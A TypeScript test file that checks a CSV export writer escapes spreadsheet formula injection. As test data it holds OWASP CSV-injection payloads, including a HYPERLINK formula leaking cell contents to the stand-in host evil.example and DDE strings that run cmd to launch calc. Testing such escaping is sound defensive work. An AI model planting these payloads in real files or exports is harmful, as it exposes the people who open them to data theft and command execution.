import { describe, expect, it } from 'vitest'
import Papa from 'papaparse'
import { toCsv } from '../../src/domain/text/csv'
import { newRecord, recordsCsv } from '../../src/domain/volunteer/records'
import { applicationCsv } from '../../src/domain/forms/present'
import type { FormDefinition } from '../../src/domain/forms/types'
import idoJson from '../../src/content/forms/jumin-ido.v1.json'
import { REFERENCE_JUMIN_IDO } from '../fixtures/reference-application'

const ido = idoJson as unknown as FormDefinition
const parse = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data

/** OWASP "CSV Injection": what Excel (and LibreOffice) would run as a formula. */
const OWASP = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n2行目',
]

describe('CSV formula injection (the one writer both exports use)', () => {
  it('every OWASP formula start is written as text, with a leading apostrophe', () => {
    const csv = toCsv([['値'], ...OWASP.map((v) => [v])])
    const cells = parse(csv).slice(1).map((r) => r[0])
    expect(cells).toEqual(OWASP.map((v) => `'${v}`))
    // no line of the file starts a cell with a formula character
    for (const line of csv.split('\r\n')) expect(line).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('a multi-line cell starting with = is escaped too (papaparse\'s own default pattern misses it)', () => {
    expect(toCsv([['=1+1\nx']])).toBe('\uFEFF"\'=1+1\nx"\r\n')
  })

  it('numbers stay numbers; ordinary text, BOM, CRLF and RFC 4180 quoting are unchanged', () => {
    expect(toCsv([['a', 'b,c', 'say "hi"', -3, 0], ['改行\nあり', '日本語', 3, '', '1-2-3']])).toBe('\uFEFFa,"b,c","say ""hi""",-3,0\r\n"改行\nあり",日本語,3,,1-2-3\r\n')
  })

  it('the accepted OWASP trade-off: a legitimate value starting with + or - also gets the apostrophe', () => {
    expect(parse(toCsv([['+81 90-0000-0000', '-']]))[0]).toEqual(["'+81 90-0000-0000", "'-"])
  })

  it('volunteer report: a class name from open data and a class id from the address cannot run', () => {
    const r = newRecord("+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","スマホ教室")', '2026-12-10', 1)
    r.notes = '@SUM(1)'
    const [, row] = parse(recordsCsv([r], { topics: {}, troubles: {} as never }))
    expect(row![0]).toBe("'+cmd|' /C calc'!A0")
    expect(row![1]).toBe('\'=HYPERLINK("http://evil.example","スマホ教室")')
    expect(row![12]).toBe("'@SUM(1)")
  })

  it('staff export: a resident\'s answer cannot become a formula on the counter PC', () => {
    const csv = applicationCsv(ido, { ...REFERENCE_JUMIN_IDO, newAddressExtra: '=HYPERLINK("http://evil.example","部屋")' })
    const row = parse(csv).find((r) => r[0] === 'newAddressExtra')!
    expect(row[2]).toBe('\'=HYPERLINK("http://evil.example","部屋")')
    for (const cells of parse(csv)) for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/)
  })
})
